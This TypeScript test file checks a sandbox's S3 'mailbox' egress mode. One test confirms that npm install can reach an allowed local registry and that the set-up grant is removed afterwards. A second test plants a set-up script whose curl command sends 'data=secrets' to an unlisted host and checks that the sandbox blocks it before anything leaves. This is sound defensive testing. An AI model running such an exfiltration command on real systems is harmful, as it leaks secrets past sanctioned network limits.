import { GetObjectCommand } from '@aws-sdk/client-s3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startLocalStack, type LocalStack } from '../../local/stack.ts';
import { egressGrantKey } from '../../sandbox-runner/common/egress-mailbox.ts';
import { createS3ClientFactory } from '../../sandbox-runner/s3-client.ts';
import { apiClient } from '../support/api-client.ts';
import { startCountingServer, type CountingServer } from '../support/counting-server.ts';
import { startNpmRegistry, type NpmRegistry } from '../support/npm-registry.ts';
import { text, unscripted } from '../support/stack-fixture.ts';
import { makeTempDir } from '../support/temp-dir.ts';

/**
 * Set-up steps in the `mailbox` egress mode, the default AWS deployment's, on the local stack:
 * `npm install` in the sandbox reaches the loopback registry only through the workspace's S3
 * mailbox (the runner's mailbox proxy writes each request to the S3 stand-in, whose notification
 * invokes the egress forwarder, which checks the grant the harness wrote for the set-up). A host
 * off the list is refused by the runner before anything leaves, and the set-up grant is gone once
 * the set-up ends.
 */
describe('set-up steps through the S3 egress mailbox (STRATUS_EGRESS=mailbox)', () => {
  const tmp = makeTempDir();
  const npmDir = makeTempDir();
  let stack: LocalStack;
  let registry: NpmRegistry;
  let offList: CountingServer;
  let api: ReturnType<typeof apiClient>;

  beforeAll(async () => {
    registry = await startNpmRegistry(npmDir.dir);
    await registry.publish({ name: 'tiny-add', version: '1.0.0', main: 'index.js' }, { 'index.js': 'module.exports = (a, b) => a + b;\n' });
    offList = await startCountingServer();
    stack = await startLocalStack({
      dataDir: tmp.dir,
      brain: unscripted,
      writeMetrics: () => undefined,
      // The forwarder's outbound policy admits the loopback registry, as the operator's setting does for every outbound call.
      settings: {
        model: {},
        turn: {},
        api: {},
        observability: {},
        egress: 'mailbox',
        outbound: { privateNetworkAllow: [registry.host] },
        setup: { registries: [registry.host] },
      },
    });
    api = apiClient(stack.apiUrl, stack.token);
  }, 60_000);

  afterAll(async () => {
    await stack?.stop();
    await registry?.close();
    await offList?.close();
    tmp.cleanup();
    npmDir.cleanup();
  });

  const grantOf = async (workspaceId: string) => {
    const s3 = createS3ClientFactory({ region: 'us-east-1', endpoint: stack.urls.s3 })({ ...stack.deps.config.localCredentials! });
    return s3.send(new GetObjectCommand({ Bucket: stack.deps.config.bucket, Key: egressGrantKey(workspaceId) })).then(
      async (out) => out.Body!.transformToString(),
      (err: { name?: string }) => err.name,
    );
  };

  it('installs from the registry through the mailbox; the set-up grant is deleted when the set-up ends', async () => {
    const files = {
      'package.json': JSON.stringify({ name: 'app', version: '1.0.0', private: true, dependencies: { 'tiny-add': '1.0.0' } }),
      '.npmrc': registry.npmrc(),
      '.stratus/setup.sh': "set -e\nnpm install --no-audit --no-fund\nnode -e \"console.log('sum', require('tiny-add')(2, 3))\"\n",
    };
    const create = await api.request('POST', '/v1/sessions', { files });
    expect(create.status).toBe(201);
    const id = create.json.id as string;
    registry.requests.length = 0;
    stack.model!.enqueue(text('Dependencies are installed.'));
    const { events } = await api.turnSse(id, 'go');
    expect(events.find((e) => e.type === 'setup_start')).toMatchObject({ allowedDomains: [registry.host] });
    const end = events.find((e) => e.type === 'setup_end') as { status: string; outputTail: string };
    expect(end.outputTail).toContain('sum 5');
    expect(end.status).toBe('succeeded');
    // The registry saw npm's requests: the metadata and the tarball, relayed by the forwarder.
    expect(registry.requests).toEqual(expect.arrayContaining(['GET /tiny-add', expect.stringMatching(/^GET \/tiny-add\/-\/tiny-add-1\.0\.0\.tgz$/)]));
    const workspaceId = (await api.request('GET', `/v1/sessions/${id}`)).json.workspace.id as string;
    expect(await grantOf(workspaceId)).toBe('NoSuchKey');
  }, 120_000);

  it('refuses a set-up step that reaches for a host off the list, before any request leaves', async () => {
    const script = `curl -sS --fail-with-body http://localhost:${offList.port}/collect?data=secrets\n`;
    const create = await api.request('POST', '/v1/sessions', { files: { 'README.md': 'hi\n' }, settings: { setup: { script } } });
    const id = create.json.id as string;
    stack.model!.enqueue(text('The set-up failed.'));
    const { events } = await api.turnSse(id, 'go');
    const end = events.find((e) => e.type === 'setup_end') as { status: string; outputTail: string };
    expect(end.status).toBe('failed');
    expect(end.outputTail).toContain('Blocked by the sandbox: localhost is not in this session');
    expect(offList.seen.connections).toBe(0);
  }, 120_000);
});
